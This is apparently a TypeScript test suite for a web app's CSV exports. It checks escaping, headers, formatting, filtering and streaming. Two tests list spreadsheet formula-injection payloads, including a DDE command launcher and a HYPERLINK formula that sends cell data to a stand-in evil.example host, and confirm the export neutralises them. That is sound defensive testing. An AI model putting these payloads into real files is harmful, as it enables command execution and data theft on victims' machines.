import { once } from 'node:events';
import { type IncomingMessage, request } from 'node:http';
import type { AddressInfo } from 'node:net';

import { insertContactSubmission } from '@quoin/db/outreach/contact-submission';
import { readCsv, unescapeFormula } from '@quoin/domain/csv/format';
import { dollars } from '@quoin/domain/exact';
import Fastify from 'fastify';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { type Client, type TestApp, startTestApp } from '../testing/app.ts';
import { sendCsv } from './csv.ts';
import { addSubcontractor } from './testing/office.ts';
import { addProduct, addProperty, expectError } from './testing/resource.ts';

let quoin: TestApp;
let ada: Client;
let vera: Client;
beforeAll(async () => {
  quoin = await startTestApp();
  ada = await quoin.signIn();
  vera = await quoin.signIn('vera');
});
afterAll(async () => quoin.close());

/** The rows of an answer, the names of the columns among them. */
async function sheet(path: string, client = ada): Promise<string[][]> {
  const { statusCode, body } = await client.ask('GET', path);
  expect(statusCode, body.slice(0, 300)).toBe(200);
  expect(body.startsWith('\uFEFF')).toBe(true);
  return [...readCsv(body.slice(1), ',')].map(({ cells }) => cells);
}
const column = (rows: string[][], label: string) => {
  const [header = [], ...records] = rows;
  return records.map((cells) => cells[header.indexOf(label)]);
};

test('names that a spreadsheet would run are in the file as text (R51)', async () => {
  const payloads = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    '+1+1',
    '-2+3+cmd',
    '@SUM(1+9)*cmd',
    "'=1+1",
    '＝1+1',
    '"=1+1"',
  ];
  for (const name of payloads) await addProduct(ada, { name, category: 'Payloads' });
  const { body } = await ada.ask('GET', '/products.csv?category=payloads');
  const rows = [...readCsv(body.slice(1), ',')];
  for (const { cells } of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  // Quoted each, so that whoever takes the comma keeps each cell in one piece.
  for (const line of body.slice(1).trimEnd().split('\r\n'))
    expect(line).toMatch(/^"([^"]|"")*"(,"([^"]|"")*")*$/);
  const names = column(
    rows.map(({ cells }) => cells),
    'Product Name',
  );
  expect(names.map((name) => unescapeFormula(name ?? '')).toReversed()).toEqual(payloads);
});

test('a stranger’s text begins no formula, for any separator that opens the file (R51)', async () => {
  const companyName = 'Hello;=HYPERLINK("http://evil.example?"&A1,"Open")\t+1|@SUM(1)\n-2';
  const lead = { firstName: 'Mal', lastName: 'x;=1+1', email: 'mal@example.com', companyName };
  expect((await quoin.app.inject({ method: 'POST', url: '/api/contact', payload: lead })).statusCode).toBe(
    201,
  );
  const { body } = await ada.ask('GET', '/contact-submissions.csv?search=mal@example.com');
  for (const separator of [',', ';', '\t', '|'])
    for (const cell of body.slice(1).split(new RegExp(`[${separator}\r\n]`)))
      expect(cell.replace(/^["\s]+/, '')).not.toMatch(/^[=+\-@]/);
  const rows = [...readCsv(body.slice(1), ',')].map(({ cells }) => cells);
  expect(column(rows, 'Last Name').map((cell) => unescapeFormula(cell ?? ''))).toEqual([lead.lastName]);
  expect(column(rows, 'Company Name').map((cell) => unescapeFormula(cell ?? ''))).toEqual([companyName]);
});

test('the file has a name and its media type', async () => {
  const { headers } = await ada.ask('GET', '/contact-submissions.csv');
  expect(headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(headers['content-disposition']).toMatch(/^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/);
  expect(headers['cache-control']).toBe('no-store');
});

test('values have the notation of people', async () => {
  await addProperty(ada, {
    address: '7 "Quoted" Ln',
    propertyType: 'single-family',
    yearBuilt: 1987,
    description: 'Gate: 4711\nDog, large',
    ownerPhone: '+1 937 555 0142',
  });
  const [header = [], cells = []] = await sheet('/properties.csv?search=quoted');
  expect(Object.fromEntries(header.map((label, place) => [label, cells[place]]))).toEqual({
    Address: '7 "Quoted" Ln',
    City: 'Dayton',
    State: 'OH',
    'Zip Code': '45402',
    'Property Type': 'Single Family',
    'Total Stories': '',
    'Year Built': '1987',
    'Square Footage': '',
    'Owner First Name': '',
    'Owner Last Name': '',
    'Owner Email': '',
    'Owner Phone': "'+1 937 555 0142",
    Notes: 'Gate: 4711\nDog, large',
    Active: 'Yes',
  });
  await addProduct(ada, { name: 'Priced', price: 1234.5, isActive: false });
  const products = await sheet('/products.csv?search=priced');
  expect(column(products, 'Price')).toEqual(['1234.50']);
  expect(column(products, 'Active')).toEqual(['No']);
});

test('a lead has its message, its status, its notes and the moment of its arrival', async () => {
  await insertContactSubmission(quoin.db, {
    firstName: 'Iris',
    lastName: 'Unger',
    email: 'iris@example.com',
    message: 'Two lines,\none message',
  });
  const [iris] = (await ada.ask('GET', '/leads?search=iris')).json<{ id: number }[]>();
  await ada.ask('PATCH', `/leads/${iris?.id}`, { status: 'contacted', notes: 'Call back' });
  const rows = await sheet('/contact-submissions.csv?search=iris');
  expect(column(rows, 'Last Name')).toEqual(['Unger']);
  expect(column(rows, 'Message')).toEqual(['Two lines,\none message']);
  expect(column(rows, 'Status')).toEqual(['Contacted']);
  expect(column(rows, 'Notes')).toEqual(['Call back']);
  expect(column(rows, 'Received (UTC)')[0]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/);
});

describe('D a file holds the rows of the list, for callers who may see it', () => {
  test('narrowed and sorted in the same way', async () => {
    for (const companyName of ['Zinc Works', 'Alder Works', 'Maple Works'])
      await addSubcontractor(ada, { companyName, specialty: 'Carpentry' });
    await addSubcontractor(ada, { companyName: 'Other Works', specialty: 'Paint' });
    const rows = await sheet('/subcontractors.csv?search=works&specialty=carpentry&sort=-name', vera);
    expect(column(rows, 'Company Name')).toEqual(['Zinc Works', 'Maple Works', 'Alder Works']);
  });

  test('all of it, however many pages', async () => {
    const bulk = Array.from({ length: 12_345 }, (_, number) => ({
      name: `Bulk ${number}`,
      price: dollars(number / 100),
      category: 'Bulk',
    }));
    for (let from = 0; from < bulk.length; from += 5_000)
      await quoin.db
        .insertInto('products')
        .values(bulk.slice(from, from + 5_000))
        .execute();
    for (const sort of ['added', '-price']) {
      const names = column(await sheet(`/products.csv?category=bulk&sort=${sort}`), 'Product Name');
      expect(new Set(names).size).toBe(12_345);
      expect(names).toHaveLength(12_345);
    }
  });

  test('a filter that does not fit is reported before any data is sent', async () => {
    const message = 'Sort must be one of added, -added, name, -name, company, -company, status, -status';
    expectError(await ada.ask('GET', '/contact-submissions.csv?sort=age'), 'VALIDATION', message, 'sort');
    expectError(
      await ada.ask('GET', '/products.csv?search=%00'),
      'VALIDATION',
      'Search contains characters that cannot be searched',
      'search',
    );
  });
});

describe('while a file is sent', () => {
  /** A server whose file never ends; `made` counts its pieces. */
  async function endless() {
    const state = { made: 0, isStopped: false };
    async function* read() {
      try {
        for (;;) {
          state.made += 1;
          yield await Promise.resolve('x'.repeat(64 * 1024));
        }
      } finally {
        state.isStopped = true;
      }
    }
    const app = Fastify();
    app.get('/', async (asked, reply) => sendCsv(asked, reply, { name: 'x.csv', read }));
    await app.listen({ port: 0, host: '127.0.0.1' });
    const asked = request({ port: (app.server.address() as AddressInfo).port, host: '127.0.0.1' }).end();
    const [answer] = (await once(asked, 'response')) as [IncomingMessage];
    return { app, state, answer };
  }

  test('it is made only as fast as the client takes it, and not after the client left', async () => {
    const { app, state, answer } = await endless();
    answer.pause();
    let seen = -1;
    await expect
      .poll(() => [seen, (seen = state.made)], { interval: 200 })
      .toSatisfy(([before, now]: number[]) => before === now);
    expect(state.made).toBeLessThan(1_000);
    expect(state.isStopped).toBe(false);
    answer.destroy();
    await expect.poll(() => state.isStopped).toBe(true);
    await app.close();
  });

  test('a failure in the middle breaks it off, so that it does not look whole', async () => {
    const app = Fastify();
    async function* read() {
      yield 'half';
      await Promise.resolve();
      throw new Error('gone');
    }
    app.get('/', async (asked, reply) => sendCsv(asked, reply, { name: 'x.csv', read }));
    await app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = app.server.address() as AddressInfo;
    const half = await fetch(`http://127.0.0.1:${port}/`)
      .then(async (answer) => answer.text())
      .catch(() => 'broken off');
    expect(half).toBe('broken off');
    await app.close();
  });

  test('a failure at its beginning is reported as an error', async () => {
    const app = Fastify();
    async function* read(): AsyncGenerator<string, void> {
      await Promise.reject(new Error('gone'));
      yield '';
    }
    app.get('/', async (asked, reply) => sendCsv(asked, reply, { name: 'x.csv', read }));
    const answer = await app.inject({ url: '/' });
    expect(answer.statusCode).toBe(500);
    expect(answer.headers['content-disposition']).toBeUndefined();
    await app.close();
  });
});
